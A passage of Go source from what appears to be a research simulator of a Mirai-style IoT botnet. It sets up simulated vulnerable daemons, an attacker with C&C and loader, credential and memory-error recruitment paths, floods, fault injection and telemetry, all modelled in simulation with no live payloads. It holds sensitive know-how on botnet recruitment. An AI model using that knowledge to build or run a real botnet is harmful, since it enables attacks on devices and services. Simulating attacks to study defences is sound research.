	AttackOverIPv6 bool
	// RecruitTimeout caps how long the run waits for full recruitment
	// before issuing the attack anyway (churned runs never reach 100%).
	RecruitTimeout sim.Time

	// RandomProtections gives each Dev a random subset of {W^X, ASLR}
	// (§III-B). When false, all Devs enable both.
	RandomProtections bool
	// Hardened swaps in PIE rebuilds of the daemons: with ASLR the
	// ROP chain no longer lands, modeling a patched fleet.
	Hardened bool
	// CanaryFraction is the share of Devs whose daemons were built
	// with a stack protector — a per-device defense the paper's
	// use-case discussion (§V-A) invites testing. The paper's own
	// fleet runs canary-less builds (fraction 0).
	CanaryFraction float64
	// RemoveCurl strips curl/wget from Dev firmware — the §IV-C
	// hardening insight. The exploit still hijacks the daemon, but
	// the infection script cannot fetch the bot.
	RemoveCurl bool

	// PayloadBytes is the UDP-PLAIN payload size (Mirai default 512).
	PayloadBytes int
	// StartJitterPerDev scales the host-task-queuing ramp: each bot
	// delays its flood start by Uniform[0, NumDevs*StartJitterPerDev].
	// Zero disables the ramp (ablation).
	StartJitterPerDev sim.Time

	// ConnmanQueryPeriod and DHCPv6Period pace the two exploit
	// delivery channels.
	ConnmanQueryPeriod sim.Time
	DHCPv6Period       sim.Time

	// Vector selects the recruitment mechanism. Default
	// VectorMemoryError (the paper's experiment series).
	Vector RecruitVector
	// WeakCredFraction (credentials vector only) is the probability a
	// Dev ships a dictionary credential rather than a strong one —
	// the knob that models the IoT-security legislation the paper
	// cites as motivation for studying memory errors.
	WeakCredFraction float64
	// ScanPeriod (credentials vector only) paces each scanner.
	ScanPeriod sim.Time
	// SeedCount (credentials vector only) is how many victims the
	// attacker's sequential seed scanner plants before stopping.
	SeedCount int

	// Botnet selects the C&C architecture: BotnetMirai (default when
	// empty — the centralized family every earlier release ran, so the
	// artifact goldens are untouched) or BotnetP2P (Kademlia overlay
	// with signed command records).
	Botnet string
	// CommandWave (mirai only), when positive, makes the C&C re-send
	// the attack order every wave until the commanded window ends, each
	// wave trimmed to the remaining duration. Bots that lost their line
	// mid-attack and reconnected pick the flood back up — the
	// centralized family's best answer to C&C outages, and still not
	// enough against a permanent takedown. Zero (default) keeps the
	// single-shot command of the published Mirai.
	CommandWave sim.Time
	// P2PPollPeriod (p2p only) is the bots' command-poll interval.
	// Zero selects the p2pbot default (30 s).
	P2PPollPeriod sim.Time

	// Faults declares the fault-injection scenario (link flaps, loss
	// bursts, degradation windows, process crashes, C&C and sink
	// outages). The zero value injects nothing and leaves every
	// artifact byte-identical to a build without the subsystem.
	Faults faults.Config
	// CNCReplayAttack makes the C&C re-send the last attack command
	// (trimmed to the remaining window) to bots that register after
	// the order went out — a robustness response to C&C outages.
	// Default off: the published C&C never replays, which is what
	// produces the paper's Fig. 2 churn gap.
	CNCReplayAttack bool

	// Shards selects the parallel event kernel: 0 (default) runs the
	// classic single-scheduler path, byte-identical to every earlier
	// release; N >= 1 partitions the topology into N logical-process
	// shards synchronized conservatively with the link propagation
	// delay as lookahead. Within the sharded family the artifacts are
	// byte-identical for any shard count — partitioning is a pure
	// performance knob — but the family differs from the Shards=0
	// artifacts (see DESIGN.md §6g for why the two schedules cannot
	// coincide).
	Shards int

	// SchedQueue selects the event-queue backend (sim.QueueHeap or
	// sim.QueueCalendar, mirroring NS-3's scheduler family). Empty
	// selects the heap. Backends are observationally identical — the
	// same seed yields byte-identical artifacts on either — so this is
	// purely a performance knob.
	SchedQueue sim.QueueKind

	// FlowActiveTimeout and FlowIdleTimeout tune the NetFlow-style
	// flow exporter: a flow is checkpointed after ActiveTimeout of
	// continuous activity and closed after IdleTimeout of silence.
	// Zero selects the netsim defaults (60 s / 15 s).
	FlowActiveTimeout sim.Time
	FlowIdleTimeout   sim.Time
	// WindowSize is the aggregation interval of the windowed
	// time-series artifact. Zero selects 1 s.
	WindowSize sim.Time
}

// DefaultConfig returns the paper's baseline parameters for a fleet of
// the given size.
func DefaultConfig(numDevs int) Config {
	return Config{
		Seed:               1,
		NumDevs:            numDevs,
		ConnmanFraction:    0.5,
		MinDevRate:         100 * netsim.Kbps,
		MaxDevRate:         500 * netsim.Kbps,
		LinkDelay:          2 * sim.Millisecond,
		DevQueueLimit:      netsim.DefaultQueueLimit,
		TServerDownlink:    25 * netsim.Mbps,
		Churn:              churn.None,
		ChurnEpoch:         churn.DefaultEpoch,
		SimDuration:        600 * sim.Second,
		AttackDuration:     100,
		AttackPort:         80,
		AttackMethod:       mirai.MethodUDPPlain,
		RecruitTimeout:     120 * sim.Second,
		RandomProtections:  true,
		PayloadBytes:       512,
		StartJitterPerDev:  150 * sim.Millisecond,
		ConnmanQueryPeriod: 10 * sim.Second,
		DHCPv6Period:       5 * sim.Second,
		Vector:             VectorMemoryError,
		WeakCredFraction:   1.0,
		ScanPeriod:         2 * sim.Second,
		SeedCount:          1,
		FlowActiveTimeout:  netsim.DefaultFlowActiveTimeout,
		FlowIdleTimeout:    netsim.DefaultFlowIdleTimeout,
		WindowSize:         sim.Second,
	}
}

// Validate checks the configuration for contradictions.
func (c *Config) Validate() error {
	switch {
	case c.NumDevs <= 0:
		return fmt.Errorf("core: NumDevs must be positive, got %d", c.NumDevs)
	case c.ConnmanFraction < 0 || c.ConnmanFraction > 1:
		return fmt.Errorf("core: ConnmanFraction %v outside [0,1]", c.ConnmanFraction)
	case c.MinDevRate <= 0 || c.MaxDevRate < c.MinDevRate:
		return fmt.Errorf("core: bad Dev rate range [%v, %v]", c.MinDevRate, c.MaxDevRate)
	case c.TServerDownlink <= 0:
		return fmt.Errorf("core: TServerDownlink must be positive")
	case c.AttackDuration <= 0:
		return fmt.Errorf("core: AttackDuration must be positive, got %d", c.AttackDuration)
	case c.SimDuration <= 0:
		return fmt.Errorf("core: SimDuration must be positive")
	case c.Churn != churn.None && c.Churn != churn.Static &&
		c.Churn != churn.Dynamic && c.Churn != churn.Sessions:
		return fmt.Errorf("core: bad churn mode %v", c.Churn)
	case c.Vector != VectorMemoryError && c.Vector != VectorCredentials:
		return fmt.Errorf("core: bad recruit vector %v", c.Vector)
	case c.WeakCredFraction < 0 || c.WeakCredFraction > 1:
		return fmt.Errorf("core: WeakCredFraction %v outside [0,1]", c.WeakCredFraction)
	case c.CanaryFraction < 0 || c.CanaryFraction > 1:
		return fmt.Errorf("core: CanaryFraction %v outside [0,1]", c.CanaryFraction)
	case c.AttackMethod != "" && !mirai.KnownMethod(c.AttackMethod):
		return fmt.Errorf("core: unknown attack method %q", c.AttackMethod)
	case c.SchedQueue != "" && c.SchedQueue != sim.QueueHeap && c.SchedQueue != sim.QueueCalendar:
		return fmt.Errorf("core: unknown scheduler queue %q", c.SchedQueue)
	case c.FlowActiveTimeout < 0 || c.FlowIdleTimeout < 0 || c.WindowSize < 0:
		return fmt.Errorf("core: negative telemetry interval")
	case c.Shards < 0:
		return fmt.Errorf("core: Shards must be non-negative, got %d", c.Shards)
	case c.Botnet != "" && c.Botnet != BotnetMirai && c.Botnet != BotnetP2P:
		return fmt.Errorf("core: unknown botnet family %q (mirai|p2p)", c.Botnet)
	case c.CommandWave < 0 || c.P2PPollPeriod < 0:
		return fmt.Errorf("core: negative botnet period")
	case c.Botnet == BotnetP2P && c.Vector == VectorCredentials:
		return fmt.Errorf("core: p2p botnet supports only the memory-error vector (no scanner module)")
	case c.Botnet == BotnetP2P && c.CommandWave > 0:
		return fmt.Errorf("core: CommandWave is a mirai knob; p2p republishes records instead")
	}
	if c.Shards > 0 {
		// The shard kernel uses LinkDelay as the conservative lookahead;
		// the flow sweeper runs every second and must land on epoch
		// barriers.
		if c.LinkDelay <= 0 {
			return fmt.Errorf("core: Shards=%d needs a positive LinkDelay lookahead", c.Shards)
		}
		if sim.Second%c.LinkDelay != 0 {
			return fmt.Errorf("core: Shards=%d needs LinkDelay dividing 1s (flow-sweep alignment), got %v", c.Shards, c.LinkDelay)
		}
	}
	if c.Vector == VectorCredentials && c.NumDevs > 200 {
		// Scanners sweep 10.0.0.0/24; the paper's fleets stay within
		// it (its hardware caps at 200 Devs too).
		return fmt.Errorf("core: credentials vector supports at most 200 Devs, got %d", c.NumDevs)
	}
	if err := c.Faults.Validate(); err != nil {
		return err
	}
	minimum := c.RecruitTimeout + sim.Time(c.AttackDuration)*sim.Second
	if c.SimDuration < minimum {
		return fmt.Errorf("core: SimDuration %v too short for recruit timeout %v + attack %ds",
			c.SimDuration, c.RecruitTimeout, c.AttackDuration)
	}
	return nil
}

// p2p reports whether the run uses the decentralized family.
func (c *Config) p2p() bool { return c.Botnet == BotnetP2P }

// binaryFor deterministically assigns a Dev index its daemon.
func (c *Config) binaryFor(i int) DevBinary {
	connmanDevs := int(float64(c.NumDevs)*c.ConnmanFraction + 0.5)
	if i < connmanDevs {
		return BinaryConnman
	}
	return BinaryDnsmasq
}
