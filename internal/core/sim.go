package core

import (
	"fmt"
	"math/rand"
	"net/netip"

	"ddosim/internal/attacker"
	"ddosim/internal/binaries/connman"
	"ddosim/internal/binaries/dnsmasq"
	imagecat "ddosim/internal/binaries/image"
	"ddosim/internal/binaries/telnetd"
	"ddosim/internal/churn"
	"ddosim/internal/container"
	"ddosim/internal/exploit"
	"ddosim/internal/faults"
	"ddosim/internal/metrics"
	"ddosim/internal/mirai"
	"ddosim/internal/netsim"
	"ddosim/internal/obs"
	"ddosim/internal/procvm"
	"ddosim/internal/resources"
	"ddosim/internal/sim"
)

// Dev is one simulated IoT device: a container running a vulnerable
// daemon over a 100–500 kbps link.
type Dev struct {
	name      string
	binary    DevBinary
	prot      procvm.Protections
	rate      netsim.DataRate
	container *container.Container

	// respawn is the supervisor hook fault injection uses to bring the
	// Dev's service daemon back after a crash. It reports false (and
	// does nothing) when the daemon is still (or already) running.
	respawn func() bool
}

// Name implements churn.Device.
func (d *Dev) Name() string { return d.name }

// SetOnline implements churn.Device by flipping the Dev's link.
func (d *Dev) SetOnline(up bool) { d.container.Node().DefaultDevice().SetUp(up) }

// Online implements churn.Device.
func (d *Dev) Online() bool { return d.container.Node().DefaultDevice().IsUp() }

// Binary reports the daemon this Dev runs.
func (d *Dev) Binary() DevBinary { return d.binary }

// Protections reports the Dev's memory defenses.
func (d *Dev) Protections() procvm.Protections { return d.prot }

// Container exposes the underlying container.
func (d *Dev) Container() *container.Container { return d.container }

// Rate reports the Dev's sampled link rate.
func (d *Dev) Rate() netsim.DataRate { return d.rate }

// Simulation is one fully-built DDoSim instance.
type Simulation struct {
	cfg      Config
	sched    *sim.Scheduler
	net      *netsim.Network
	star     *netsim.Star
	engine   *container.Engine
	attacker *attacker.Attacker
	loader   *mirai.Loader
	tserver  *netsim.Node
	sink     *netsim.Sink
	devs     []*Dev
	churnCtl *churn.Controller
	faults   *faults.Injector
	timeline *metrics.Timeline
	obs      *obs.Obs

	devByAddr map[netip.Addr]*Dev

	recruitSpan obs.SpanID
	attackSpan  obs.SpanID

	// Telemetry pipeline: exported flow records, windowed time series,
	// and the per-bot kill-chain bookkeeping behind the phase spans.
	flowBuf *obs.FlowBuffer
	windows *obs.Windows
	// firstAttempt records when each Dev first parsed an attacker
	// payload; firstReport when the loader first learned of a victim.
	// They anchor the "exploit" and "load" kill-chain spans.
	firstAttempt map[string]sim.Time
	firstReport  map[netip.Addr]sim.Time
	// winCmdSum/winCmdN accumulate command→flood latencies inside the
	// current window; the cnc_cmd_latency_s column drains them.
	winCmdSum float64
	winCmdN   int

	results        Results
	infectedDevs   map[string]bool
	registeredEver map[netip.Addr]bool

	attackIssued bool
	preSnap      resources.Snapshot
	postSnap     resources.Snapshot
	postTaken    bool
}

// New builds the full testbed for cfg: attacker container (C&C, file
// server, malicious DNS, DHCPv6 script), NumDevs Dev containers, and
// the TServer sink node, all joined through the star router.
func New(cfg Config) (*Simulation, error) {
	if err := cfg.Validate(); err != nil {
		return nil, err
	}
	if cfg.WindowSize <= 0 {
		cfg.WindowSize = sim.Second
	}
	s := &Simulation{
		cfg:            cfg,
		sched:          sim.NewSchedulerQueue(cfg.Seed, cfg.SchedQueue),
		timeline:       metrics.NewTimeline(),
		obs:            obs.New(),
		devByAddr:      make(map[netip.Addr]*Dev),
		firstAttempt:   make(map[string]sim.Time),
		firstReport:    make(map[netip.Addr]sim.Time),
		infectedDevs:   make(map[string]bool),
		registeredEver: make(map[netip.Addr]bool),
	}
	s.sched.SetHook(s.obs.SchedulerHook())
	s.net = netsim.New(s.sched)
	s.net.Observe(s.obs)
	s.star = netsim.NewStar(s.net)
	s.engine = container.NewEngine(s.sched, s.star)
	s.engine.Observe(s.obs)

	// TServer first so the attacker's scanner skip-list can include
	// it; then the attacker; then the fleet.
	deploySpan := s.obs.Trace.BeginSpan(s.sched.Now(), obs.CatPhase, "deploy",
		obs.KV{K: "devs", V: fmt.Sprint(cfg.NumDevs)})
	if err := s.deployTServer(); err != nil {
		return nil, err
	}
	if err := s.deployAttacker(); err != nil {
		return nil, err
	}
	if err := s.deployDevs(); err != nil {
		return nil, err
	}
	s.obs.Trace.EndSpan(deploySpan, s.sched.Now())

	churnDevs := make([]churn.Device, len(s.devs))
	for i, d := range s.devs {
		churnDevs[i] = d
	}
	s.churnCtl = churn.NewController(s.sched, cfg.Churn, churnDevs)
	s.churnCtl.Observe(s.obs)
	if cfg.ChurnEpoch > 0 {
		s.churnCtl.SetEpoch(cfg.ChurnEpoch)
	}
	s.churnCtl.OnChange = func(at sim.Time, dev churn.Device, online bool) {
		kind := EventChurnOffline
		if online {
			kind = EventChurnOnline
		}
		s.timeline.Record(at, kind, dev.Name())
	}
	if err := s.setupFaults(); err != nil {
		return nil, err
	}
	s.setupTelemetry()
	return s, nil
}

// setupTelemetry attaches the flow exporter (with ground-truth label
// rules) and registers the windowed time-series columns. Runs after
// deployment because the label rules need the attacker's addresses.
func (s *Simulation) setupTelemetry() {
	s.flowBuf = &obs.FlowBuffer{}
	ft := s.net.EnableFlows(netsim.FlowConfig{
		ActiveTimeout: s.cfg.FlowActiveTimeout,
		IdleTimeout:   s.cfg.FlowIdleTimeout,
		Sink:          s.flowBuf,
	})
	atk := s.attacker.Container.Node()
	// Rule order matters: the C&C listens on port 23 — the telnet port —
	// so the exact-endpoint C&C rule must precede the generic telnet
	// rule, or bot↔C&C flows would be labeled "recruit".
	ft.AddLabelRule(netsim.FlowLabelRule{
		Endpoint: netip.AddrPortFrom(atk.Addr4(), mirai.CNCPort), Label: "cnc"})
	ft.AddLabelRule(netsim.FlowLabelRule{
		Endpoint: netip.AddrPortFrom(atk.Addr4(), mirai.ScanListenPort), Label: "recruit"})
	ft.AddLabelRule(netsim.FlowLabelRule{Port: 23, Label: "recruit"})
	// Remaining attacker traffic (DNS poisoning, DHCPv6 payloads, bot
	// binary fetches) is the exploit-delivery plane.
	ft.AddLabelRule(netsim.FlowLabelRule{Addr: atk.Addr4(), Label: "exploit"})
	ft.AddLabelRule(netsim.FlowLabelRule{Addr: atk.Addr6(), Label: "exploit"})

	w := obs.NewWindows(s.cfg.WindowSize)
	w.Column("infected", func() float64 { return float64(s.results.Infected) })
	w.DeltaColumn("new_infections", func() float64 { return float64(s.results.Infected) })
	w.Column("bots_registered", func() float64 { return float64(s.results.BotsRegistered) })
	w.DeltaColumn("net_tx_bytes", func() float64 { return float64(s.net.Stats().TxBytes) })
	w.DeltaColumn("net_drops", func() float64 { return float64(s.net.Stats().Drops) })
	w.DeltaColumn("sink_rx_bytes", func() float64 { return float64(s.sink.Series().TotalBytes()) })
	w.Column("queue_depth", func() float64 { return float64(s.sched.Pending()) })
	// Mean command→first-flood-packet latency over the window; reading
	// drains the accumulator (documented side effect — Windows calls
	// each reader exactly once per Sample).
	w.Column("cnc_cmd_latency_s", func() float64 {
		if s.winCmdN == 0 {
			return 0
		}
		v := s.winCmdSum / float64(s.winCmdN)
		s.winCmdSum, s.winCmdN = 0, 0
		return v
	})
	s.windows = w
}

// setupFaults builds the fault injector when the config declares a
// scenario. A zero Faults config builds nothing at all, so fault-free
// runs stay byte-identical to builds without the subsystem.
func (s *Simulation) setupFaults() error {
	if !s.cfg.Faults.Enabled() {
		return nil
	}
	inj, err := faults.New(s.sched, s.cfg.Faults, s.cfg.Seed, s.obs)
	if err != nil {
		return err
	}
	inj.OnEvent = func(kind, actor string) {
		s.timeline.Record(s.sched.Now(), kind, actor)
	}
	for _, dev := range s.devs {
		dev := dev
		inj.AddLink(dev.name, dev.container.Node().DefaultDevice())
		inj.AddProcTarget(faults.ProcTarget{
			Name: dev.name,
			Crash: func(rng *rand.Rand) (string, bool) {
				procs := dev.container.Procs()
				if len(procs) == 0 {
					return "", false
				}
				p := procs[rng.Intn(len(procs))]
				what := p.Title()
				if p.Tag("malware") != "" {
					// A crashed bot stays dead until the botnet itself
					// re-recruits the device: the loader forgets the
					// victim so a scanner re-report can re-infect it.
					// That recovery loop is what the resilience
					// experiment measures.
					what = "bot"
					if s.loader != nil {
						s.loader.Forget(dev.container.Node().Addr4())
					}
				}
				dev.container.Kill(p.PID()) //simlint:allow shardconfine(fault supervisor kills the crashed process's own container; becomes a partition message under the sharded kernel — ROADMAP item 1)
				return what, true
			},
			Restart: func(string) bool {
				return dev.respawn != nil && dev.respawn()
			},
		})
	}
	atkC := s.attacker.Container
	inj.SetCNC("attacker", atkC.Node().DefaultDevice(), faults.ProcTarget{
		Name: "attacker",
		Crash: func(*rand.Rand) (string, bool) {
			p := atkC.FindByTCPPort(mirai.CNCPort)
			if p == nil {
				return "", false
			}
			atkC.Kill(p.PID())
			return "cnc", true
		},
		Restart: func(string) bool {
			if atkC.FindByTCPPort(mirai.CNCPort) != nil {
				return false
			}
			// Re-exec the C&C binary; the attacker's factory rebinds
			// s.attacker.CNC to the fresh instance.
			_, err := atkC.ExecFile("/usr/bin/cnc", nil)
			return err == nil
		},
	})
	inj.SetSink(func(down bool) {
		if down {
			s.sink.Suspend()
		} else {
			s.sink.Resume()
		}
	})
	s.faults = inj
	return nil
}

// Faults exposes the fault injector (nil when the config declares no
// scenario).
func (s *Simulation) Faults() *faults.Injector { return s.faults }

// Sched exposes the scheduler (examples drive extra behaviours with
// it).
func (s *Simulation) Sched() *sim.Scheduler { return s.sched }

// Network exposes the simulated network.
func (s *Simulation) Network() *netsim.Network { return s.net }

// Star exposes the topology helper so callers can attach extra hosts
// (e.g. benign-traffic clients for defense experiments).
func (s *Simulation) Star() *netsim.Star { return s.star }

// Engine exposes the container runtime.
func (s *Simulation) Engine() *container.Engine { return s.engine }

// Attacker exposes the deployed attacker component.
func (s *Simulation) Attacker() *attacker.Attacker { return s.attacker }

// CNC exposes the Mirai command-and-control server.
func (s *Simulation) CNC() *mirai.CNC { return s.attacker.CNC }

// TServer exposes the target node.
func (s *Simulation) TServer() *netsim.Node { return s.tserver }

// Sink exposes TServer's measurement application.
func (s *Simulation) Sink() *netsim.Sink { return s.sink }

// Devs returns the fleet (a copy of the slice).
func (s *Simulation) Devs() []*Dev {
	out := make([]*Dev, len(s.devs))
	copy(out, s.devs)
	return out
}

// Timeline exposes the run's event log.
func (s *Simulation) Timeline() *metrics.Timeline { return s.timeline }

// Obs exposes the run's observability bundle (tracer, metrics
// registry, scheduler profiler).
func (s *Simulation) Obs() *obs.Obs { return s.obs }

// Flows exposes the buffered flow records exported during the run.
func (s *Simulation) Flows() *obs.FlowBuffer { return s.flowBuf }

// FlowTable exposes the network's flow accountant.
func (s *Simulation) FlowTable() *netsim.FlowTable { return s.net.Flows() }

// Windows exposes the windowed time-series metrics.
func (s *Simulation) Windows() *obs.Windows { return s.windows }

func (s *Simulation) deployAttacker() error {
	jitter := sim.Time(0)
	if s.cfg.StartJitterPerDev > 0 {
		jitter = sim.Time(s.cfg.NumDevs) * s.cfg.StartJitterPerDev
	}
	atkCfg := attacker.Config{
		DHCPv6Period: s.cfg.DHCPv6Period,
		Obs:          s.obs,
		Bot: mirai.BotConfig{
			PayloadBytes: s.cfg.PayloadBytes,
			StartJitter:  jitter,
			OnAttackStart: func(addr netip.Addr) {
				now := s.sched.Now()
				s.timeline.Record(now, EventFloodStart, s.devName(addr))
				s.obs.Trace.Event(now, obs.CatCNC, "flood-start",
					obs.KV{K: "dev", V: s.devName(addr)})
				if s.attackIssued {
					at := s.results.AttackIssuedAt
					s.obs.Trace.RecordSpan(at, now, obs.CatKillChain, "attack",
						obs.KV{K: "dev", V: s.devName(addr)})
					s.winCmdSum += (now - at).Seconds()
					s.winCmdN++
				}
			},
		},
		CNC: mirai.CNCConfig{
			ReplayAttackCommand: s.cfg.CNCReplayAttack,
			OnBotRegistered: func(addr netip.Addr, arch string) {
				if !s.registeredEver[addr] {
					s.registeredEver[addr] = true
					s.results.BotsRegistered++
				}
				s.timeline.Record(s.sched.Now(), EventBotJoined, s.devName(addr))
			},
			OnBotLost: func(addr netip.Addr) {
				s.timeline.Record(s.sched.Now(), EventBotLost, s.devName(addr))
			},
		},
	}
	if s.cfg.Vector == VectorCredentials {
		// Credential recruitment: no exploit scripts; instead the
		// distributed bots scan and brute-force telnet, and a loader
		// pushes the infection command to reported victims.
		atkCfg.DisableExploitScripts = true
		atkCfg.Bot.Scan = mirai.ScanConfig{
			Enabled: true,
			Prefix:  netip.MustParsePrefix("10.0.0.0/24"),
			Period:  s.cfg.ScanPeriod,
			Skip:    []netip.Addr{s.tserver.Addr4()},
		}
	}
	atk, err := attacker.Deploy(s.engine, atkCfg)
	if err != nil {
		return err
	}
	s.attacker = atk

	if s.cfg.Vector == VectorCredentials {
		s.loader = mirai.NewLoader(mirai.LoaderConfig{
			InfectionCommand: exploit.InfectionCommand(atk.ScriptURL()),
			OnReport: func(victim netip.Addr) {
				if _, seen := s.firstReport[victim]; seen {
					return
				}
				now := s.sched.Now()
				s.firstReport[victim] = now
				// Scan phase: run start → a scanner first cracked the
				// victim and reported it.
				s.obs.Trace.RecordSpan(0, now, obs.CatKillChain, "scan",
					obs.KV{K: "dev", V: s.devName(victim)})
			},
			OnLoaded: func(victim netip.Addr) {
				dev, ok := s.devByAddr[victim]
				if !ok {
					return
				}
				if !s.infectedDevs[dev.name] {
					now := s.sched.Now()
					s.infectedDevs[dev.name] = true
					s.results.Infected++
					s.obs.Metrics.Counter("infections_total", "Devs recruited into the botnet").Inc()
					s.timeline.Record(now, EventLoaded, dev.name)
					s.obs.Trace.Event(now, obs.CatExploit, "exploit-success",
						obs.KV{K: "dev", V: dev.name}, obs.KV{K: "channel", V: "loader"})
					if at, ok := s.firstReport[victim]; ok {
						s.obs.Trace.RecordSpan(at, now, obs.CatKillChain, "load",
							obs.KV{K: "dev", V: dev.name})
					}
					s.obs.Trace.RecordSpan(0, now, obs.CatKillChain, "recruit",
						obs.KV{K: "dev", V: dev.name})
				}
			},
		})
		atk.Container.Spawn(s.loader)
		atk.Container.Spawn(mirai.SeedScannerBehavior(atk.BotTemplate.Scan, s.cfg.SeedCount))
	}
	return nil
}

func (s *Simulation) devName(addr netip.Addr) string {
	if d, ok := s.devByAddr[addr]; ok {
		return d.name
	}
	return addr.String()
}

func (s *Simulation) deployTServer() error {
	// TServer is an NS-3-style node, not a container (§II-C): modest
	// uplink, a downlink wide enough to be the shared bottleneck.
	s.tserver = s.star.AttachHostAsym("tserver",
		10*netsim.Mbps, s.cfg.TServerDownlink, s.cfg.LinkDelay, netsim.DefaultQueueLimit)
	sink, err := netsim.InstallSink(s.tserver, s.cfg.AttackPort)
	if err != nil {
		return fmt.Errorf("core: tserver sink: %w", err)
	}
	s.sink = sink
	return nil
}

// Loader exposes the Mirai loader (credentials vector only; nil
// otherwise).
func (s *Simulation) Loader() *mirai.Loader { return s.loader }

func (s *Simulation) deployDevs() error {
	if s.cfg.Vector == VectorCredentials {
		return s.deployTelnetDevs()
	}
	return s.deployVulnDaemonDevs()
}

// deployTelnetDevs builds the credential-vector fleet: BusyBox-style
// devices guarded only by a login, a WeakCredFraction of which ship
// dictionary credentials.
func (s *Simulation) deployTelnetDevs() error {
	img := &container.Image{
		Name: "ddosim/dev-busybox", Tag: "1.19", Arch: "x86_64",
		Files:      map[string][]byte{"/bin/telnetd": container.BinaryContent(imagecat.BinTelnetd, "x86_64")},
		ExecPaths:  map[string]bool{"/bin/telnetd": true},
		ExtraBytes: 3 << 20,
	}
	s.engine.RegisterImage(img)
	rng := rand.New(rand.NewSource(s.cfg.Seed ^ 0x5eed))
	for i := 0; i < s.cfg.NumDevs; i++ {
		name := fmt.Sprintf("dev-%03d", i+1)
		rate := s.cfg.MinDevRate +
			netsim.DataRate(rng.Int63n(int64(s.cfg.MaxDevRate-s.cfg.MinDevRate)+1))
		cred := telnetd.StrongCred
		weak := rng.Float64() < s.cfg.WeakCredFraction
		if weak {
			cred = telnetd.MiraiDictionary[rng.Intn(len(telnetd.MiraiDictionary))]
			s.results.WeakCredDevs++
		}
		c, err := s.engine.Create(img.Ref(), name, container.LinkConfig{
			Rate: rate, Delay: s.cfg.LinkDelay, QueueLimit: s.cfg.DevQueueLimit,
		})
		if err != nil {
			return fmt.Errorf("core: dev %s: %w", name, err)
		}
		dev := &Dev{name: name, binary: BinaryTelnetd, rate: rate, container: c}
		s.devs = append(s.devs, dev)
		s.devByAddr[c.Node().Addr4()] = dev
		if err := c.Start(); err != nil {
			return fmt.Errorf("core: dev %s: %w", name, err)
		}
		c.Spawn(telnetd.New(telnetd.Config{Cred: cred}))
		dev.respawn = func() bool {
			if c.FindByTCPPort(23) != nil {
				return false
			}
			c.Spawn(telnetd.New(telnetd.Config{Cred: cred}))
			return true
		}
	}
	return nil
}

func (s *Simulation) deployVulnDaemonDevs() error {
	connmanProg, dnsmasqProg := imagecat.Connman(), imagecat.Dnsmasq()
	if s.cfg.Hardened {
		connmanProg, dnsmasqProg = imagecat.HardenedConnman(), imagecat.HardenedDnsmasq()
	}
	connmanImg := &container.Image{
		Name: "ddosim/dev-connman", Tag: "1.34", Arch: "x86_64",
		Files:      map[string][]byte{"/usr/sbin/connmand": container.BinaryContent(imagecat.BinConnman, "x86_64")},
		ExecPaths:  map[string]bool{"/usr/sbin/connmand": true},
		Program:    connmanProg,
		ExtraBytes: 4 << 20,
	}
	dnsmasqImg := &container.Image{
		Name: "ddosim/dev-dnsmasq", Tag: "2.77", Arch: "x86_64",
		Files:      map[string][]byte{"/usr/sbin/dnsmasq": container.BinaryContent(imagecat.BinDnsmasq, "x86_64")},
		ExecPaths:  map[string]bool{"/usr/sbin/dnsmasq": true},
		Program:    dnsmasqProg,
		ExtraBytes: 4 << 20,
	}
	s.engine.RegisterImage(connmanImg)
	s.engine.RegisterImage(dnsmasqImg)

	// Dev parameters come from a dedicated stream so that runs with
	// the same seed but different churn modes get identical fleets —
	// common random numbers make the Fig. 2 churn comparison paired.
	rng := rand.New(rand.NewSource(s.cfg.Seed ^ 0x5eed))
	for i := 0; i < s.cfg.NumDevs; i++ {
		name := fmt.Sprintf("dev-%03d", i+1)
		bin := s.cfg.binaryFor(i)
		rate := s.cfg.MinDevRate +
			netsim.DataRate(rng.Int63n(int64(s.cfg.MaxDevRate-s.cfg.MinDevRate)+1))
		prot := procvm.Protections{WX: true, ASLR: true}
		if s.cfg.RandomProtections {
			prot = procvm.Protections{WX: rng.Intn(2) == 0, ASLR: rng.Intn(2) == 0}
		}
		if rng.Float64() < s.cfg.CanaryFraction {
			prot.Canary = true
			s.results.CanaryDevs++
		}

		ref := connmanImg.Ref()
		if bin == BinaryDnsmasq {
			ref = dnsmasqImg.Ref()
		}
		c, err := s.engine.Create(ref, name, container.LinkConfig{
			Rate: rate, Delay: s.cfg.LinkDelay, QueueLimit: s.cfg.DevQueueLimit,
		})
		if err != nil {
			return fmt.Errorf("core: dev %s: %w", name, err)
		}
		dev := &Dev{name: name, binary: bin, prot: prot, rate: rate, container: c}
		s.devs = append(s.devs, dev)
		s.devByAddr[c.Node().Addr4()] = dev

		if err := c.Start(); err != nil {
			return fmt.Errorf("core: dev %s: %w", name, err)
		}
		if s.cfg.RemoveCurl {
			c.RemoveCommand("curl")
			c.RemoveCommand("wget")
		}
		outcome := s.outcomeHook(dev)
		switch bin {
		case BinaryConnman:
			// §V-C: Devs are manually pointed at the malicious DNS
			// server.
			c.FS().Write("/etc/resolv.conf",
				[]byte("nameserver "+s.attacker.Container.Node().Addr4().String()+"\n"))
			spawn := func() {
				c.Spawn(connman.New(connman.Config{
					Protections: prot,
					QueryPeriod: s.cfg.ConnmanQueryPeriod,
					Program:     connmanProg,
					OnOutcome:   outcome,
				}))
			}
			spawn()
			dev.respawn = daemonRespawn(c, imagecat.BinConnman, spawn)
		case BinaryDnsmasq:
			spawn := func() {
				c.Spawn(dnsmasq.New(dnsmasq.Config{
					Protections: prot,
					Program:     dnsmasqProg,
					OnOutcome:   outcome,
				}))
			}
			spawn()
			dev.respawn = daemonRespawn(c, imagecat.BinDnsmasq, spawn)
		}
	}
	return nil
}

// daemonRespawn builds a supervisor hook that respawns a Dev's service
// daemon unless a live process with its title is still around.
func daemonRespawn(c *container.Container, title string, spawn func()) func() bool {
	return func() bool {
		for _, p := range c.Procs() {
			if p.Title() == title {
				return false
			}
		}
		spawn()
		return true
	}
}

func (s *Simulation) outcomeHook(dev *Dev) func(procvm.HijackOutcome) {
	reg := s.obs.Metrics
	ctrAttempts := reg.Counter("exploit_attempts_total", "attacker payloads parsed by Dev daemons")
	ctrHijacked := reg.Counter("exploit_hijacked_total", "payloads that overwrote a return address")
	ctrInfected := reg.Counter("infections_total", "Devs recruited into the botnet")
	ctrCrashed := reg.Counter("exploit_crashes_total", "daemons crashed by a payload (defenses held)")
	return func(out procvm.HijackOutcome) {
		s.results.ExploitAttempts++
		ctrAttempts.Inc()
		if _, ok := s.firstAttempt[dev.name]; !ok {
			s.firstAttempt[dev.name] = s.sched.Now()
		}
		if out.Hijacked {
			s.results.Hijacked++
			ctrHijacked.Inc()
		}
		switch {
		case out.ExecutedShell != "":
